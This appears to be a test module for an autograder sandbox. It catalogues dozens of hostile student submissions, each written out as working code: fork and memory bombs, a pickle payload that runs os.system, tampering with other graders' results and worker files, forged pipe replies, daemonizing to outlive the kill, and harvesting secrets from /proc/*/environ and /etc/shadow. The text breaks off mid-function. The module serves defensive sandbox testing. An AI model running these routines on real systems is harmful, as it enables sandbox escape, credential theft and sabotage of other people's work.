"""Hostile submissions: code that tries to crash, hang, exhaust, escape, spy on or fool the grader.

A catalogue of 46 attacks in eight classes, each with its code and what it must not earn; it is long because
the attacks are, and each one reads on its own.

Each one replaces one or two of the reference's solution cells with what a determined student might write.
Every case is judged by what it achieved, never by how the sandbox stopped it:

- check by check it earns no more than its **stub twin** (the same notebook with those cells left as the
  release's ``NotImplementedError`` stubs), and nothing in ``loses_in``;
- its grading finishes within the grader's own timeouts;
- nothing it leaves behind is found afterwards: a file named ``bnkit-hostile-<name>-...`` in /tmp, /var/tmp or
  /dev/shm, the string ``bnkit-hostile-<name>`` in anyone's results or feedback (the attacks write it into
  whatever they manage to tamper with, and raise it when they manage to reach something they must not);
- the run-level rows of ``autograder.validation.runner`` hold: no planted secret in any output, shared places
  clean, no process left, no connection to the run's listener, the grader's memory bounded, every other
  submission graded with its own score.

Cases are grouped by what they attack (``group``) and say which isolation level must already contain them
(``promise``):

- ``robust``: every level, even a plain process with rlimits: the run finishes, nobody else's grade changes,
  time and memory stay bounded, and nothing crosses the wire but plain data;
- ``isolated``: the ``container`` and ``full`` levels (and ``process`` where the kernel offers Landlock): no
  effect outside the sandbox (files in shared places, processes that outlive the worker, the network, other
  namespaces, ptrace, other workers);
- ``secret``: reads outside the sandbox's allowlist find nothing (``full``; ``container`` and ``process``
  where the kernel offers Landlock).
"""
import re
from dataclasses import dataclass
from functools import lru_cache

from autograder.validation.variant import Variant, net_checks

# Which checks an attack must cost, as a rule read from each check's ``needs`` and the assignment's
# declarations (``Assignment.attack_targets``, ``Assignment.training_checks``):
CALL_FORWARD = 'checks that call the forward'
CALL_BACKWARD = 'checks that call the backward'
# The net calls the layer's backward when it trains, so a hostile backward also costs the checks that train
# the whole net (a loss check still earns its case without the layer).
RUN_BACKWARD = 'checks that call the backward or train the net'
USE_NET = 'checks that use the net'
EVERY_CHECK = 'every check'

TRACE_PREFIX = 'bnkit-hostile-'      # file names and strings that prove an attack got somewhere
PROMISES = ('robust', 'isolated', 'secret')
GROUPS = {
    'crash': 'crashing, hanging and exhausting the worker',
    'fool': 'fooling the checks',
    'tamper': 'tampering with what the grader or a later worker reads',
    'escape': 'escaping the kill',
    'read': 'reading outside the allowlist',
    'fill': 'exhausting shared places',
    'grader': 'exhausting the grader',
    'kernel': 'namespaces, ptrace and sockets',
}


def hostile_backward(body, prelude=''):
    return {'backward': prelude + '@backward_def@\n' + body}


def hostile_forward(body, prelude=''):
    return {'forward': prelude + '@forward_def@\n' + body}


@dataclass(frozen=True)
class Attack:
    """One hostile submission, written against the roles of ``Assignment.attack_targets``: its cells are keyed
    by 'forward', 'backward' or 'net', and its code says @forward@, @backward@, @forward_def@, @backward_def@,
    @answers_module@ (where the answer key's backward lives) and @answers_file@ (that module's file name)."""
    name: str
    description: str
    cells: dict
    unearned: str     # one of the rules above: the checks in which it must earn nothing
    group: str
    promise: str


def hostile(name, description, cells, unearned, group='crash', promise='robust'):
    assert group in GROUPS and promise in PROMISES, (group, promise)
    assert unearned in (CALL_FORWARD, CALL_BACKWARD, RUN_BACKWARD, USE_NET, EVERY_CHECK), unearned
    cells = {k: v.replace('NAME', name) for k, v in cells.items()}
    return Attack(name, description, cells, unearned, group, promise)


def stub_twin(variant):
    """The same notebook with the hostile cells left as the release's stubs (None = keep the release's cell).

    Hostile submissions that replace the same cells share one twin: it is the same notebook."""
    cells = sorted(variant.cells)
    return Variant('stub_twin__' + '__'.join(cells), 'twin', 'the release with stubs in %s' % ', '.join(cells),
                   {grade_id: None for grade_id in cells}, assignment=variant.assignment)


# ----------------------------------------------------------------------------------------------------------
# Pieces of student code several attacks share. NAME becomes the variant's name.

LEAVE_TRACE = r'''
def shared_places():
    import os
    places = ['/tmp', '/var/tmp', '/dev/shm']
    try:
        places.append(os.path.dirname(os.getcwd()))     # beside my own folder
    except OSError:
        pass
    return places


TRACE_PLACES = shared_places()      # noted while my folder still exists


def leave_trace(what):
    """Proof that this got out: a file in every shared place this process can write to."""
    import os
    for folder in TRACE_PLACES:
        try:
            with open(os.path.join(folder, 'bnkit-hostile-NAME-' + what), 'w') as f:
                f.write('%d\n' % os.getpid())
        except OSError:
            pass

'''

# Where graders keep their working files: the usual temporary places, Gradescope's folder, and wherever
# this worker was started from.
REACHABLE = r'''
def reachable(names, depth=6):
    """Files with one of these names in the places a grader keeps its working files."""
    import os
    roots = ['/tmp', '/var/tmp', '/dev/shm', '/autograder']
    try:
        roots.append(os.path.dirname(os.getcwd()))
    except OSError:     # my folder is gone already
        pass
    hits = []
    for root in dict.fromkeys(roots):
        base = root.rstrip('/').count('/')
        for folder, dirs, files in os.walk(root):
            if folder.count('/') - base >= depth:
                dirs[:] = []
            hits += [os.path.join(folder, f) for f in files if f in names]
    return hits

'''

TAMPER_RESULTS = REACHABLE + r'''
def tamper_results():
    """Every results.json and grades.csv in reach: zero for everyone else, and my mark for whoever reads it."""
    import json
    for path in reachable({'results.json', 'grades.csv'}):
        try:
            if path.endswith('.json'):
                with open(path) as f:
                    data = json.load(f)
                data['score'] = 0.0
                data['output'] = 'bnkit-hostile-NAME was here'
                for test in data.get('tests', []):
                    test['score'] = 0.0
                with open(path, 'w') as f:
                    json.dump(data, f)
            else:
                with open(path, 'a') as f:
                    f.write('bnkit-hostile-NAME,70,70\n')
        except (OSError, ValueError, TypeError, AttributeError):
            pass

'''

TAMPER_WORKERS = r'''
PAYLOAD = "raise RuntimeError('bnkit-hostile-NAME: this code came from another submission')\n"


def worker_folders():
    """Folders with a worker's cells.json, one or two levels below the places workers are started from."""
    import os
    roots = ['/tmp', '/var/tmp', '/dev/shm', '/run']
    try:
        roots.append(os.path.dirname(os.getcwd()))
    except OSError:
        pass
    found, level = [], list(dict.fromkeys(roots))
    for _ in range(2):
        below = []
        for root in level:
            try:
                with os.scandir(root) as entries:
                    for entry in entries:
                        if entry.is_dir(follow_symlinks=False):
                            (found if os.path.exists(os.path.join(entry.path, 'cells.json')) else below).append(entry.path)
            except OSError:
                pass
        level = below
    return found


def tamper_workers():
    """Other workers' folders: their code becomes mine, their limits nothing."""
    import json, os, sys
    mine = {os.path.dirname(os.path.abspath(sys.argv[0] or '/'))}
    try:
        mine.add(os.path.realpath(os.getcwd()))
    except OSError:
        pass
    for folder in worker_folders():
        if os.path.realpath(folder) in mine:
            continue
        try:
            with open(os.path.join(folder, 'cells.json'), 'w') as f:
                json.dump([{'label': 'the cell @forward@', 'source': PAYLOAD}], f)
        except OSError:
            pass
        sides = __import__('glob').glob(os.path.join(folder, 'autograder', 'assignments', '*', 'side.py'))
        for name in ('worker_main.py', os.path.join('cs231n', 'layers.py'),
                     os.path.join('autograder', 'sandbox', 'side.py'), *sides):
            path = os.path.join(folder, name)
            try:
                with open(path) as f:
                    source = f.read()
                if PAYLOAD not in source:
                    with open(path, 'w') as f:
                        f.write(PAYLOAD + source)
            except OSError:
                pass
        try:
            config = os.path.join(folder, 'config.json')
            with open(config) as f:
                settings = json.load(f)
            settings.update(call_timeout=0.001, memory_mb=1, cpu_seconds=1)
            with open(config, 'w') as f:
                json.dump(settings, f)
        except (OSError, ValueError, AttributeError):
            pass

'''

# The descriptors the worker answers the grader on: written to, not the captured stdout/stderr files.
REPLY_CHANNELS = r'''
def reply_channels():
    """Descriptors besides stdout and stderr that this process may write to: the grader reads one of them."""
    import fcntl, os
    found = []
    for fd in range(3, 256):
        try:
            flags = fcntl.fcntl(fd, fcntl.F_GETFL)
        except OSError:
            continue
        try:
            kind = os.readlink('/proc/self/fd/%d' % fd)
        except OSError:
            kind = 'pipe:'
        if flags & os.O_ACCMODE in (os.O_WRONLY, os.O_RDWR) and kind.startswith(('pipe:', 'socket:')):
            found.append(fd)
    return found

'''

# Finding an answer key anywhere on the machine, likely places first, within a time budget.
FIND_FILES = r'''
import os, time

LOOK_IN = ('/autograder', '/home', '/srv', '/opt', '/mnt', '/tmp', '/var/tmp', '/work', '/root', '/usr/local',
           '/data', '/course', '/')
SKIP = {'/proc', '/sys', '/dev', '/usr/lib', '/usr/share', '/usr/include', '/lib', '/lib64', '/lib32', '/bin',
        '/sbin', '/boot', '/run', '/var/lib', '/var/cache', '/var/log', '/snap', '/etc'}


def find_files(wanted, budget=10.0):
    """Paths of the files for which wanted(folder, name) is true."""
    deadline = time.monotonic() + budget
    seen, found = set(), []
    for root in LOOK_IN:
        for folder, dirs, files in os.walk(root):
            real = os.path.realpath(folder)
            if time.monotonic() > deadline:
                return found
            if real in seen or real in SKIP or os.path.basename(folder) in ('.git', '.cache', '.rustup', '.cargo',
                                                                            'node_modules', '__pycache__'):
                dirs[:] = []
                continue
            seen.add(real)
            found += [os.path.join(folder, f) for f in files if wanted(folder, f)]
    return found


def interesting(text):
    """The lines anyone would want to see: secrets, tokens, passwords, answers."""
    import re
    return [line.strip()[:200] for line in text.splitlines()
            if re.search(r'secret|token|passw|api.?key|answer', line, re.I)]


def answer_from(source):
    """@backward@ out of some source code, if it defines one that runs."""
    import numpy
    namespace = {'np': numpy, '__name__': 'loot'}
    try:
        exec(compile(source, 'loot', 'exec'), namespace)
    except BaseException:
        return None
    return namespace.get('@backward@')

'''

LOOT_BACKWARD = r'''
@backward_def@
    for answer in ANSWERS:
        try:
            return answer(dout, cache)
        except Exception:
            continue
    raise RuntimeError('found: ' + ' | '.join(LEAKS)[:480] if LEAKS else 'nothing found')
'''

# The wire format's framing, as wire.py (copied next to the worker) documents it.
WIRE_FRAMING = r'''
import struct


def frame_header(obj):
    import json
    body = json.dumps(obj).encode()
    return struct.pack('>I', len(body)) + body

'''

CTYPES_LIBC = r'''
import ctypes, os, platform

libc = ctypes.CDLL(None, use_errno=True)
SYS_CLONE = {'x86_64': 56, 'aarch64': 220}.get(platform.machine(), 56)
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWPID, CLONE_NEWNET = 0x00020000, 0x10000000, 0x20000000, 0x40000000
MNT_DETACH, MS_REC, MS_PRIVATE, MS_BIND = 2, 0x4000, 1 << 18, 4096


def become_root_inside():
    """In a fresh user namespace: map my uid to root there."""
    uid, gid = os.geteuid(), os.getegid()
    for path, text in (('/proc/self/setgroups', 'deny'), ('/proc/self/uid_map', '0 %d 1' % uid),
                       ('/proc/self/gid_map', '0 %d 1' % gid)):
        try:
            with open(path, 'w') as f:
                f.write(text)
        except OSError:
            pass


def hiding_mounts():
    """Mount points that look like something was hidden under them: small tmpfs over folders."""
    points = []
    try:
        with open('/proc/self/mountinfo') as f:
            for line in f:
                fields = line.split()
                fstype = fields[fields.index('-') + 1]
                if fstype == 'tmpfs' and fields[4] not in ('/tmp', '/dev/shm', '/run', '/dev'):
                    points.append(fields[4])
    except (OSError, ValueError, IndexError):
        pass
    return points

'''

# Candidate processes to spy on: my ancestors and anything that looks like the grader.
GRADER_PIDS = r'''
def grader_pids():
    """My ancestors and every process whose command line looks like the grader's, nearest first."""
    import os
    pids, pid = [], os.getppid()
    while pid > 1 and pid not in pids:
        pids.append(pid)
        try:
            with open('/proc/%d/status' % pid) as f:
                pid = int(next(l for l in f if l.startswith('PPid:')).split()[1])
        except (OSError, StopIteration, ValueError):
            break
    for name in os.listdir('/proc'):
        if name.isdigit() and int(name) != os.getpid() and int(name) not in pids:
            try:
                with open('/proc/%s/cmdline' % name, 'rb') as f:
                    cmdline = f.read()
            except OSError:
                continue
            if any(word in cmdline for word in (b'autograder', b'bnkit', b'pytest', b'run_autograder')) \
                    and b'worker_main' not in cmdline:
                pids.append(int(name))
    return pids


def looks_like_grader(pid):
    try:
        with open('/proc/%d/cmdline' % pid, 'rb') as f:
            cmdline = f.read()
    except OSError:
        return False
    return b'worker_main' not in cmdline and any(w in cmdline for w in (b'autograder', b'bnkit', b'pytest'))


def secrets_in(data):
    """KEY=value pairs out of raw memory or an environment block whose name sounds secret."""
    import re
    return sorted({m.decode(errors='replace')[:120] for m in
                   re.findall(rb'[A-Za-z_]*(?:TOKEN|SECRET|PASSW|API_?KEY)[A-Za-z_]*=[^\x00\n]{0,100}', data)})

'''


# ----------------------------------------------------------------------------------------------------------
# The original set: crash, hang, exhaust the worker; fool the checks.

CRASH = [
    hostile('sys_exit_at_import', 'sys.exit() while the cells load', {
        'net': 'import sys\nsys.exit("bye")\n'}, USE_NET),
    hostile('os_exit_at_import', 'os._exit() while the cells load: the worker dies before it answers', {
        'net': 'import os\nos._exit(0)\n'}, EVERY_CHECK),
    hostile('sys_exit_in_function', 'sys.exit() inside @backward@',
            hostile_backward('    sys.exit(0)\n', 'import sys\n'), RUN_BACKWARD),
    hostile('os_exit_in_function', 'os._exit() inside @backward@',
            hostile_backward('    os._exit(7)\n', 'import os\n'), RUN_BACKWARD),
    hostile('infinite_loop', 'an infinite loop in @backward@',
            hostile_backward('    while True:\n        pass\n'), RUN_BACKWARD),
    hostile('sleeps_past_timeout', 'sleeps for an hour in @backward@',
            hostile_backward('    time.sleep(3600)\n', 'import time\n'), RUN_BACKWARD),
    hostile('memory_bomb', 'allocates memory until something gives',
            hostile_backward('    hoard = []\n    while True:\n        hoard.append(bytearray(10 ** 8))\n'),
            RUN_BACKWARD),
    hostile('fork_bomb', 'forks without end',
            hostile_backward('    while True:\n        try:\n            os.fork()\n        except OSError:\n'
                             '            pass\n', 'import os\n'), RUN_BACKWARD),
    hostile('kills_everything', 'kill(-1, SIGKILL) and then the parent',
            hostile_backward('    os.kill(-1, signal.SIGKILL)\n    os.kill(os.getppid(), signal.SIGKILL)\n',
                             'import os, signal\n'), RUN_BACKWARD),
]

FOOL = [
    hostile('monkeypatches_numpy', 'returns zeros and makes numpy comparisons lie', hostile_forward(
        '    np.allclose = lambda *a, **k: True\n    np.max = lambda *a, **k: 0.0\n    np.abs = lambda x: x * 0\n'
        '    np.testing.assert_allclose = lambda *a, **k: None\n    return np.zeros_like(x), None\n'),
        CALL_FORWARD, group='fool'),
    hostile('monkeypatches_builtins', 'returns zeros and replaces builtins', hostile_forward(
        '    builtins.isinstance = lambda *a: True\n    builtins.abs = lambda x: 0\n'
        '    builtins.max = lambda *a, **k: 0\n    return np.zeros_like(x), None\n', 'import builtins\n'),
        CALL_FORWARD, group='fool'),
    hostile('ndarray_subclass', 'returns an ndarray subclass that claims equality with anything',
            hostile_forward('    return np.zeros_like(x).view(Liar), None\n',
                            'class Liar(np.ndarray):\n    def __eq__(self, other):\n        return True\n'
                            '    def __sub__(self, other):\n        return np.zeros(self.shape)\n'
                            '    __rsub__ = __sub__\n\n'), CALL_FORWARD, group='fool'),
    hostile('lies_in_comparisons', 'returns objects whose comparisons always succeed',
            hostile_backward('    return Anything(), Anything(), Anything()\n',
                             'class Anything:\n    def __eq__(self, other):\n        return True\n'
                             '    def __lt__(self, other):\n        return True\n'
                             '    def __float__(self):\n        return 0.0\n\n'), RUN_BACKWARD, group='fool'),
    hostile('pickle_payload', 'returns objects whose unpickling would run a command',
            hostile_backward('    return Payload(), Payload(), Payload()\n',
                             'import os\nclass Payload:\n    def __reduce__(self):\n'
                             '        return (os.system, ("touch /tmp/bnkit-pwned",))\n\n'), RUN_BACKWARD,
            group='fool'),
    # Prints what a naive grader might parse as a perfect score, then fails like the stub it replaced:
    # against its stub twin, any point it earned would be a point earned by printing.
    hostile('prints_fake_scores', 'prints lines that look like a perfect score',
            hostile_backward('    print(\'{"score": 70, "max_score": 70}\')\n    print("score 70/70")\n'
                             '    import sys\n    sys.stderr.write("All tests passed\\n")\n'
                             '    raise NotImplementedError()\n'), RUN_BACKWARD, group='fool'),
]

# ----------------------------------------------------------------------------------------------------------
# Tampering with anything the grader or a later worker reads.

TAMPER = [
    hostile('writes_everywhere', "overwrites every notebook and results.json in the places graders keep their "
            "files (/tmp, /var/tmp, /dev/shm, /autograder, beside its own folder)", hostile_backward('''    import json, os, time
    deadline = time.monotonic() + 3.5
    roots = ['/tmp', '/var/tmp', '/dev/shm', '/autograder', os.path.dirname(os.getcwd())]
    for root in dict.fromkeys(roots):
        for folder, dirs, files in os.walk(root):
            if time.monotonic() > deadline:
                break
            for name in files:
                if name.endswith('.ipynb') or name == 'results.json':
                    try:
                        with open(os.path.join(folder, name), 'w') as f:
                            json.dump({'score': 70, 'tests': []}, f)
                    except OSError:
                        pass
    raise RuntimeError('nothing to see here')
'''), RUN_BACKWARD, group='tamper'),
    hostile('swaps_files_for_symlinks',
            'replaces every file of its folder (and the folder itself) with symlinks to the grader\'s '
            'environment and /etc/shadow, then dies so that the grader reads them', hostile_backward(r'''
    here = os.getcwd()
    folders = dict.fromkeys([here, os.path.dirname(os.path.abspath(sys.argv[0] or here))])
    for folder in folders:
        for name in sorted(os.listdir(folder)):
            path = os.path.join(folder, name)
            if os.path.isdir(path) and not os.path.islink(path):
                continue
            try:
                os.unlink(path)
                # 'self' is whoever opens it: the grader's own environment, when the grader does
                os.symlink('/etc/shadow' if name.endswith('.py') else '/proc/self/environ', path)
            except OSError:
                pass
    # the parent: my folder and anything of the grader's beside it becomes a symlink to a decoy of mine
    parent = os.path.dirname(here)
    decoy = os.path.join(parent, 'bnkit-hostile-NAME-decoy')
    try:
        os.mkdir(decoy)
        for name in ('setup_errors.txt', 'student_output.txt', 'stderr.txt', 'log.txt', 'results.json'):
            os.symlink('/proc/self/environ', os.path.join(decoy, name))
    except OSError:
        pass
    for name in os.listdir(parent):
        path = os.path.join(parent, name)
        try:
            if name.startswith('bnkit') and not name.startswith('bnkit-hostile') and os.lstat(path).st_uid == os.getuid():
                os.rename(path, os.path.join(parent, 'bnkit-hostile-NAME-moved-' + name))
                os.symlink(decoy, path)
        except OSError:
            pass
    os._exit(1)
''', 'import os, sys\n'), RUN_BACKWARD, group='tamper', promise='isolated'),
    hostile('rewrites_own_worker_files',
            "rewrites the worker's config, cells, copied modules and framework in its folder (more memory, "
            "no hiding, uid 0) and dies, hoping the next worker starts from them", hostile_backward(r'''
    folders = {os.getcwd(), os.path.dirname(os.path.abspath(sys.argv[0] or '.'))}
    folders |= {os.path.dirname(m.__file__) for m in list(sys.modules.values())
                if getattr(m, '__file__', None) and m.__name__ in ('wire', 'side', 'cs231n')}
    backdoor = ("\ntry:\n    open('/tmp/bnkit-hostile-NAME-ran-as-%d' % __import__('os').getuid(), 'w').close()\n"
                "except OSError:\n    pass\n")
    for folder in folders:
        for top, dirs, files in os.walk(folder):
            for name in files:
                path = os.path.join(top, name)
                try:
                    if name.endswith('.json'):
                        with open(path) as f:
                            data = json.load(f)
                        if isinstance(data, dict):
                            data.update(memory_mb=1 << 20, cpu_seconds=1 << 20, call_timeout=1e6, uid=0, gid=0,
                                        hide=[], is_limited=False)
                        elif isinstance(data, list):
                            data.append({'label': 'mine', 'source': backdoor})
                        with open(path, 'w') as f:
                            json.dump(data, f)
                    elif name.endswith('.py'):
                        with open(path, 'a') as f:
                            f.write(backdoor)
                except (OSError, ValueError):
                    pass
    os._exit(3)
''', 'import json, os, sys\n'), RUN_BACKWARD, group='tamper', promise='isolated'),
    hostile('tampers_other_workers',
            "for 15 s, rewrites every other worker's folder it can find (cells, config, worker_main.py, its "
            "copy of cs231n) so that their code raises its mark", hostile_backward(r'''
    global STARTED
    if STARTED is None:
        STARTED = time.monotonic()
        threading.Thread(target=keep_tampering, daemon=True).start()
    if time.monotonic() - STARTED < 12:
        time.sleep(4)   # keep my worker alive while the thread works, each call under the time limit
    raise NotImplementedError
''', 'import threading, time\n' + TAMPER_WORKERS + r'''
STARTED = None


def keep_tampering():
    while time.monotonic() - STARTED < 15:
        tamper_workers()
        time.sleep(0.02)

'''), RUN_BACKWARD, group='tamper', promise='isolated'),
    hostile('injects_into_other_pipes',
            "for 15 s, opens other graders' and workers' pipes through /proc/PID/fd and writes forged replies "
            "carrying its mark into them", hostile_backward(r'''
    global STARTED
    if STARTED is None:
        STARTED = time.monotonic()
        threading.Thread(target=keep_injecting, daemon=True).start()
    if time.monotonic() - STARTED < 12:
        time.sleep(4)
    raise NotImplementedError
''', 'import os, threading, time\n' + WIRE_FRAMING + r'''
STARTED = None
FORGED = frame_header({'error': {'kind': 'exception', 'type': 'RuntimeError',
                                 'message': 'bnkit-hostile-NAME: a forged reply from another submission'}}) \
    + struct.pack('>I', 0)


def my_pipes():
    mine = set()
    for fd in os.listdir('/proc/self/fd'):
        try:
            mine.add(os.readlink('/proc/self/fd/' + fd))
        except OSError:
            pass
    return mine


def keep_injecting():
    mine = my_pipes()
    while time.monotonic() - STARTED < 15:
        for pid in os.listdir('/proc'):
            if not pid.isdigit() or int(pid) == os.getpid():
                continue
            try:
                with open('/proc/%s/cmdline' % pid, 'rb') as f:
                    cmdline = f.read()
                if not any(w in cmdline for w in (b'autograder', b'worker_main', b'bnkit')):
                    continue
                fds = os.listdir('/proc/%s/fd' % pid)
            except OSError:
                continue
            for fd in fds:
                try:
                    target = os.readlink('/proc/%s/fd/%s' % (pid, fd))
                    if not target.startswith('pipe:') or target in mine:
                        continue
                    out = os.open('/proc/%s/fd/%s' % (pid, fd), os.O_WRONLY | os.O_NONBLOCK)
                    try:
                        os.write(out, FORGED)
                    finally:
                        os.close(out)
                except OSError:
                    pass
        time.sleep(0.2)

'''), RUN_BACKWARD, group='tamper', promise='isolated'),
]

# ----------------------------------------------------------------------------------------------------------
# Escaping the kill: processes and threads meant to outlive the worker, the grader and the run.

# How a process notices it outlived its grading: the worker's main thread is done (the grader hung up),
# or the worker it was forked from is gone.
OUTLIVED = r"""
def grading_is_over(worker=None):
    import os, threading
    if worker is None:
        return not threading.main_thread().is_alive()
    try:
        os.kill(worker, 0)
        with open('/proc/%d/stat' % worker) as f:
            return f.read().split(')')[-1].split()[0] in 'ZX'
    except (OSError, IndexError):
        return True

"""

ESCAPE = [
    hostile('setsid_worker_outlives',
            'moves the worker itself into a new session; a thread waits for the grader to hang up, leaves traces, '
            'and 25 s later tampers with results and other workers', hostile_backward(r"""
    global LINGERING
    if LINGERING is None:
        try:
            os.setsid()     # out of the grader's process group
        except OSError:
            pass
        LINGERING = threading.Thread(target=linger)    # not a daemon: the interpreter waits for it
        LINGERING.start()
    raise NotImplementedError
""", 'import os, threading, time\n' + OUTLIVED + LEAVE_TRACE + TAMPER_RESULTS + TAMPER_WORKERS
                + r"""
LINGERING = None


def linger():
    while not grading_is_over():
        time.sleep(0.2)
    leave_trace('outlived')
    time.sleep(25)
    tamper_results()
    tamper_workers()
    time.sleep(3600)

"""), RUN_BACKWARD, group='escape', promise='isolated'),
    hostile('clears_pdeathsig',
            'clears its parent-death signal, leaves the process group with setpgid, and lingers in a thread '
            'that leaves traces once the grader hangs up', hostile_backward(r"""
    global LINGERING
    if LINGERING is None:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.prctl(1, 0, 0, 0, 0)   # PR_SET_PDEATHSIG: no signal when my parent dies
        try:
            os.setpgid(0, 0)
        except OSError:
            pass
        LINGERING = threading.Thread(target=linger)
        LINGERING.start()
    raise NotImplementedError
""", 'import ctypes, os, threading, time\n' + OUTLIVED + LEAVE_TRACE + r"""
LINGERING = None


def linger():
    while not grading_is_over():
        time.sleep(0.2)
    for _ in range(3600):
        leave_trace('lingered')
        time.sleep(1)

"""), RUN_BACKWARD, group='escape', promise='isolated'),
    hostile('setsid_child_kills_later',
            'forks a child that starts a new session and clears its parent-death signal; once the worker is '
            'gone it leaves traces, sleeps 20 s, tampers with results and kills everything it can',
            hostile_backward(r"""
    global CHILD
    if CHILD is None:
        worker = os.getpid()
        CHILD = os.fork()
        if CHILD == 0:
            try:
                os.setsid()
                ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
                while not grading_is_over(worker):
                    time.sleep(0.2)
                leave_trace('orphan')
                time.sleep(20)
                leave_trace('child')
                tamper_results()
                os.kill(-1, signal.SIGKILL)
            finally:
                os._exit(0)
    raise NotImplementedError
""", 'import ctypes, os, signal, time\n' + OUTLIVED + LEAVE_TRACE + TAMPER_RESULTS + 'CHILD = None\n\n'),
            RUN_BACKWARD, group='escape', promise='isolated'),
    hostile('double_fork_daemon',
            'daemonizes the classic way (fork, setsid, fork, chdir /, close descriptors); once the worker is '
            'gone it leaves traces and for a minute tampers with the next workers and the results',
            hostile_backward(r"""
    global FORKED
    if not FORKED:
        FORKED = True
        worker = os.getpid()
        if os.fork() == 0:
            try:
                os.setsid()
                if os.fork() != 0:
                    os._exit(0)
                os.chdir('/')
                os.umask(0)
                null = os.open('/dev/null', os.O_RDWR)
                for fd in range(0, 256):
                    if fd != null:
                        try:
                            os.dup2(null, fd) if fd < 3 else os.close(fd)
                        except OSError:
                            pass
                while not grading_is_over(worker):
                    time.sleep(0.2)
                leave_trace('daemon')
                for _ in range(60):
                    tamper_workers()
                    tamper_results()
                    time.sleep(1)
            finally:
                os._exit(0)
        os.wait()
    raise NotImplementedError
""", 'import os, time\n' + OUTLIVED + LEAVE_TRACE + TAMPER_RESULTS + TAMPER_WORKERS
                + 'FORKED = False\n\n'), RUN_BACKWARD, group='escape', promise='isolated'),
    hostile('thread_keeps_running',
            'a thread that ignores the end of grading: the interpreter cannot exit while it runs, SIGTERM, '
            'SIGINT and SIGHUP are ignored, and it leaves traces once the grader hangs up', hostile_backward(r"""
    global THREAD
    if THREAD is None:
        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(sig, signal.SIG_IGN)
        THREAD = threading.Thread(target=keep_running)
        THREAD.start()
    raise NotImplementedError
""", 'import signal, threading, time\n' + OUTLIVED + LEAVE_TRACE + r"""
THREAD = None


def keep_running():
    while True:
        time.sleep(0.5)
        if grading_is_over():
            leave_trace('thread')

"""), RUN_BACKWARD, group='escape', promise='isolated'),
]

# ----------------------------------------------------------------------------------------------------------
# Reading outside the allowlist: other copies of the answer key, the grader's secrets. Each one searches
# while its cells load, then uses what it found (points above its twin) or leaks it in an exception
# message (which lands in its feedback).

READ = [
    hostile('reads_the_answer_key', 'imports or reads solutions/ and autograder/ (on sys.path, beside its '
            'folder, in the usual places) to copy the answers', hostile_backward('''    import os, sys, time
    deadline = time.monotonic() + 3.5
    roots = sys.path + [os.path.dirname(os.getcwd()), '/autograder', '/tmp', '/srv', '/home', '/opt', '/work', '/']
    for root in dict.fromkeys(roots):
        for folder, dirs, files in os.walk(root or '.'):
            if time.monotonic() > deadline:
                break
            dirs[:] = [d for d in dirs if d not in ('proc', 'sys', 'dev', '.git', 'node_modules')]
            if os.path.basename(folder) in ('solutions', 'autograder') and ('@answers_file@' in files or 'checks.py' in files):
                for name in ('@answers_file@', 'checks.py'):
                    namespace = {}
                    try:
                        exec(open(os.path.join(folder, name)).read(), namespace)
                    except Exception:
                        continue
                    if '@backward@' in namespace:
                        return namespace['@backward@'](dout, cache)
    try:
        from @answers_module@ import @backward@ as answer
    except ImportError:
        import importlib
        answer = importlib.import_module('autograder').checks.reference.@backward@
    return answer(dout, cache)
'''), CALL_BACKWARD, group='read', promise='secret'),
    hostile('reads_other_checkouts',
            'searches the machine for another copy of the kit (solutions/*.py, an older checkout, a '
            "colleague's clone) and uses its @backward@", {'backward': FIND_FILES + r'''
ANSWERS, LEAKS = [], []
for path in find_files(lambda folder, name: name.endswith('.py') and os.path.basename(folder) == 'solutions'):
    try:
        with open(path, errors='replace') as f:
            source = f.read()
    except OSError:
        continue
    LEAKS += interesting(source)
    answer = answer_from(source)
    if answer is not None:
        ANSWERS.append(answer)
''' + LOOT_BACKWARD}, CALL_BACKWARD, group='read', promise='secret'),
    hostile('copies_from_nbgrader_course',
            "finds an nbgrader course folder, dumps gradebook.db and copies @backward@ out of "
            "other students' autograded notebooks or the source notebook", {'backward': FIND_FILES + r'''
import json, sqlite3

ANSWERS, LEAKS = [], []
for path in find_files(lambda folder, name: name == 'gradebook.db' or name.endswith('.ipynb')):
    try:
        if path.endswith('.db'):
            db = sqlite3.connect('file:%s?mode=ro' % path, uri=True)
            for (table,) in db.execute("SELECT name FROM sqlite_master WHERE type='table'"):
                for row in db.execute('SELECT * FROM "%s"' % table):
                    LEAKS += interesting(' '.join(map(str, row)))
            continue
        with open(path, errors='replace') as f:
            notebook = json.load(f)
        for cell in notebook.get('cells', []):
            source = ''.join(cell.get('source', ''))
            LEAKS += interesting(source)
            if 'def @backward@' in source and 'NotImplementedError' not in source:
                answer = answer_from(source)
                if answer is not None:
                    ANSWERS.append(answer)
    except Exception:
        continue
''' + LOOT_BACKWARD}, CALL_BACKWARD, group='read', promise='secret'),
    hostile('unpacks_gradescope_wheels',
            "opens Gradescope's /autograder/source (setup.sh, run_autograder, wheels/*.whl) and any bnkit "
            'wheel it finds, and takes solutions/@answers_file@ out of the zip', {'backward': FIND_FILES + r'''
import zipfile

ANSWERS, LEAKS = [], []
for path in find_files(lambda folder, name: name.endswith('.whl') or name in ('setup.sh', 'run_autograder')
                       or folder.startswith('/autograder')):
    try:
        if path.endswith('.whl'):
            with zipfile.ZipFile(path) as wheel:
                for member in wheel.namelist():
                    if member.startswith('solutions/') and member.endswith('.py'):
                        source = wheel.read(member).decode(errors='replace')
                        LEAKS += interesting(source)
                        answer = answer_from(source)
                        if answer is not None:
                            ANSWERS.append(answer)
        else:
            with open(path, errors='replace') as f:
                LEAKS += interesting(f.read(1 << 20))
    except Exception:
        continue
''' + LOOT_BACKWARD}, CALL_BACKWARD, group='read', promise='secret'),
    hostile('reads_grader_environment',
            "reads the grader's environment (/proc/PPID/environ, /proc/1/environ, every /proc/*/environ) and "
            '/etc/shadow, and raises what it found', hostile_backward(r'''
    found = []
    pids = [os.getppid(), 1] + [int(p) for p in os.listdir('/proc') if p.isdigit()]
    for pid in dict.fromkeys(pids):
        try:
            with open('/proc/%d/environ' % pid, 'rb') as f:
                found += secrets_in(f.read())
        except OSError:
            pass
    for path in ('/etc/shadow', '/etc/gshadow'):
        try:
            with open(path) as f:
                found += [line.strip() for line in f if line.strip()][:3]
        except OSError:
            pass
